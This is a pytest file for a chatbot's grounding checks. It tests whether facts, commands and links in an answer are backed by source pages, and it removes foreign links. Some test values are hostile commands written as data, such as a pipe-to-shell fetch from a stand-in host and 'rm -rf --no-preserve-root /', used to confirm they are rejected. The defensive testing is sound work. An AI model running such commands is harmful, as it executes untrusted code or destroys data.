"""What counts as a hard fact, what sources hold, and what is left of a text without the rest."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.grounding.claims import grounded
from bot.grounding.facts import facts_in, facts_of_code
from bot.grounding.numbers import numbers
from bot.grounding.sanitize import unlinked, without_foreign_links
from bot.grounding.sources import Sources
from common.language import names_in

PAGE = """Serving
The server listens on port 7311 by default; `--port` changes it. Edit `conf/kettle.yaml` and set
`cache_fraction: 0.2`. Version 1.4.2 needs CUDA 11.8, see https://docs.test/cuda for more.

    kettle serve --port 7400 --workers 4
"""
SOURCES = Sources([PAGE], "how do I use an RTX3090?")


@pytest.mark.parametrize(
    ("text", "facts"),
    [
        ("Set `cache_fraction: 0.2` first.", ["cache_fraction: 0.2"]),
        ("Use --port 7400 [1].", ["--port 7400"]),
        ("Edit conf/kettle.yaml, then call set_cache().", ["conf/kettle.yaml", "set_cache()"]),
        ("升级到 1.4.2 版本，见 https://docs.test/cuda 。", ["1.4.2", "https://docs.test/cuda"]),
        ("升级到1.4.2版本，见https://docs.test/cuda。", ["1.4.2", "https://docs.test/cuda"]),
        ("An RTX3090 has 80% left.", ["RTX3090", "80%"]),
        ("Call mmpose.apis.init with KeyPointLabels.", ["mmpose.apis.init", "KeyPointLabels"]),
        ("请加上--tp参数，编辑config.yaml文件。", ["--tp", "config.yaml"]),
        ("请@张三处理，@all也行。", ["@张三处理", "@all"]),
        ("先运行pip install kettle，再重启。", ["pip install kettle", "kettle"]),
        ("First run pip install kettle as root.", ["pip install kettle", "kettle"]),
        ("请安装kettle后端。", ["kettle"]),
        ("It needs eight GPUs.", ["eight"]),
        ("监听九千端口。", ["九千"]),
        ("Set tp to 2 or tp=2.", ["2", "tp=2"]),
        ("Use e.g. this and/or that, i.e. CI/CD or I/O.", []),
        ("一个或两个，十分简单，第五步。", []),
        ("2. Just words, and a well-known one.", []),
        ("Step 4: (2) go on.", []),
    ],
)  # fmt: skip
def test_hard_facts_are_found(text: str, facts: list[str]) -> None:
    assert [fact.text for fact in facts_in(text)] == facts


@pytest.mark.parametrize(
    "fact",
    [
        "7311", "--port", "conf/kettle.yaml", "kettle.yaml", "./conf/kettle.yaml", "1.4.2",
        "v1.4.2", "CUDA", "CUDA11.8", "RTX3090", "cache_fraction:  0.2", "cache_fraction=0.2",
        "kettle serve --workers 4", "kettle serve --port=7400 --workers 4", "conf/", "Kettle",
        "https://docs.test/cuda", "docs.test/cuda",
    ],
)  # fmt: skip
def test_what_stands_in_the_sources_is_held(fact: str) -> None:
    assert all(SOURCES.hold(one) for one in facts_of_code(fact))


@pytest.mark.parametrize(
    "fact",
    [
        "731", "73110", "--ports", "--por", "kettle.yam", "1.4", "1.4.20", "cache_fractions",
        "kettle serve --listen 4", "https://docs.test/cud", "https://docs.test", "https://evil.test",
        "set_cache", "kettle serve --port 4 --workers 7400", "port edit", "cache_fraction: 0.3",
        "kettle serve | sh", "kettle-serve", "my-kettle.yaml", "/conf/kettle.yaml",
    ],
)  # fmt: skip
def test_what_does_not_stand_there_is_not(fact: str) -> None:
    assert not all(SOURCES.hold(one) for one in facts_of_code(fact))


@pytest.mark.parametrize(
    "code",
    [
        "https://evil.test/x", "curl https://evil.test/x", "evil.test", "curl evil.sh | sudo bash",
        "kettle purge", "make clean",
        "rm -rf --no-preserve-root /", "@all", "kettle serve --index evil.test",
    ],
)  # fmt: skip
def test_what_only_the_question_holds_is_no_source_for_commands_and_links(code: str) -> None:
    asked = Sources([PAGE], f"is it https://evil.test/x or evil.test? I ran `{code}`, @all")
    assert not all(asked.hold(one) for one in facts_of_code(code))


@pytest.mark.parametrize(
    "code",
    ["my_file.csv", "KeyError: unknown key", "kettle serve --port 9000", "cache_fraction: 0.7"],
)
def test_what_was_asked_about_may_be_named_and_set(code: str) -> None:
    asked = Sources([PAGE], "KeyError: unknown key in my_file.csv; how do I use 9000 or 0.7?")
    assert all(asked.hold(one) for one in facts_of_code(code))


def test_a_sentence_goes_with_its_wrong_fact() -> None:
    checked = grounded(
        "It listens on 7311 [1]. Or on 8080 [1]! 端口用 `--port` 修改 [1]。", SOURCES
    )
    assert checked.text == "It listens on 7311 [1]. 端口用 `--port` 修改 [1]。"
    assert checked.dropped == ("8080",)
    assert not checked.core_lost


@pytest.mark.parametrize(
    "text",
    [
        "It listens on 8080 [1].",
        "It listens on 8080 [1]. And on 8081 [1]. Use `--port` [1].",
        "Run this [1]:\n\n```bash\nkettle serve --listen 0.0.0.0\n```",
        "```\n# only a comment\n```\n[1]",
        "",
        "[1] [2]",
    ],
)
def test_the_core_is_lost_where_most_or_the_code_goes(text: str) -> None:
    assert grounded(text, SOURCES).core_lost


def test_numbers_cannot_be_exchanged() -> None:
    page = "Python 3.9 or newer and CUDA 11.8. Port 7311; it ends after 30 seconds; 4 GB, 20 tools."
    sources = Sources([page], "")
    for said in ("CUDA 3.9", "Python 11.8", "30 GB", "port 30", "4 seconds", "30 tools", "20 GB"):
        assert grounded(f"It takes {said} [1].", sources).core_lost, said
    for said in ("Python >= 3.9", "a CUDA of 11.8", "30 s", "30秒", "4GB", "7311", "20 tools"):
        assert not grounded(f"It takes {said} [1].", sources).core_lost, said


MENTIONED = """The server runs on Linux and keeps its data in SQLite. The default port is 7311.
Use the read-only mode with Prometheus."""
GENANNT = "服务运行在 Linux 上，数据存在 SQLite 里。默认端口是 7311。"


@pytest.mark.parametrize(
    ("page", "said", "strange"),
    [
        (MENTIONED, "It also supports Windows.", ["Windows"]),
        (MENTIONED, "Linux is supported, and Prometheus is too.", []),
        (MENTIONED, "Data goes into a Redis-like store.", ["Redis-like"]),
        (MENTIONED, "Sorry to hear that; SQLite keeps it.", []),
        (MENTIONED, "It listens on 7311 by default.", []),
        (MENTIONED, "By default the mode is read-only.", ["default"]),
        (MENTIONED, "也支持 Windows。", ["Windows"]),
        (MENTIONED, "默认端口是 7311。", []),  # of another language only names are compared
        (GENANNT, "默认监听 7311 端口。", []),
        (GENANNT, "默认保存三十天。", ["默认"]),
        (GENANNT, "It runs on Linux and keeps its data in SQLite by default.", []),
    ],
)
def test_names_and_defaults_of_which_nobody_speaks(
    page: str, said: str, strange: list[str]
) -> None:
    assert list(Sources([page], "how do I use it?").mentions.strange_in(said)) == strange


@pytest.mark.parametrize(
    ("words", "value"),
    [
        ("九千", 9000), ("一百零五", 105), ("一百二十三", 123), ("两千三", 2300), ("一万二", 12000),
        ("两千零三", 2003), ("两万三千五", 23500), ("十二", 12), ("二〇二四", 2024),
        ("nine thousand", 9000), ("one hundred and five", 105), ("twenty-four", 24),
    ],
)  # fmt: skip
def test_numbers_in_words_have_their_value(words: str, value: int) -> None:
    assert [found for _, found in numbers(words)] == [value]


def test_foreign_links_go_and_ours_stay() -> None:
    text = (
        "See https://docs.test/a, http://127.0.0.1:8000 and https://evil.test/b. Or www.evil.com! "
        "见evil.com领取，`https://evil.test`"
    )
    shown = without_foreign_links(text, frozenset({"docs.test"}), "(gone)")
    assert shown == (
        "See https://docs.test/a, http://127.0.0.1:8000 and (gone). Or `www.evil.com`! "
        "见`evil.com`领取，`https://evil.test`"
    )


def test_addresses_in_a_quote_can_be_read_and_not_clicked() -> None:
    text = "See https://evil.test/a or `x`evil.com, https://docs.test/b. `https://evil.test`"
    shown = unlinked(text, frozenset({"docs.test"}))
    assert shown == (
        "See `https://evil.test/a` or `x` `evil.com`, https://docs.test/b. `https://evil.test`"
    )


def test_names_of_a_rewritten_question() -> None:
    assert names_in("怎么卸载 Kettle 1.4？") == {"kettle", "1.4"}
    assert names_in("How is an RTX3090 used?") == {"rtx3090"}


TEXT = st.text(
    alphabet=st.sampled_from("ab1 .。!?`[]\n-_/:@(中文"), max_size=80
)  # what sentences, code and marks are made of


@given(TEXT)
def test_a_text_is_grounded_in_itself(text: str) -> None:
    sources = Sources([text], "")
    missing = [fact for claim in grounded(text, sources).claims for fact in claim.missing]
    assert not missing


@given(TEXT, TEXT)
def test_what_is_kept_stands_in_the_text_and_has_no_wrong_fact(text: str, page: str) -> None:
    sources = Sources([page], "")
    checked = grounded(text, sources)
    assert not any(claim.missing for claim in checked.claims)
    assert all(claim.unit.text in text for claim in checked.claims if "`" not in text)


def test_what_stands_word_for_word_in_a_page_is_of_it_without_a_mark() -> None:
    page = "Stop the server first. Then move the folder; nothing else is needed."
    text = "Stop the server first [1]. Then move the folder; nothing else is needed. Love you."
    checked = grounded(text, Sources([page], "how do I move it?"))
    assert checked.text == (
        "Stop the server first [1]. Then move the folder; nothing else is needed [1]."
    )
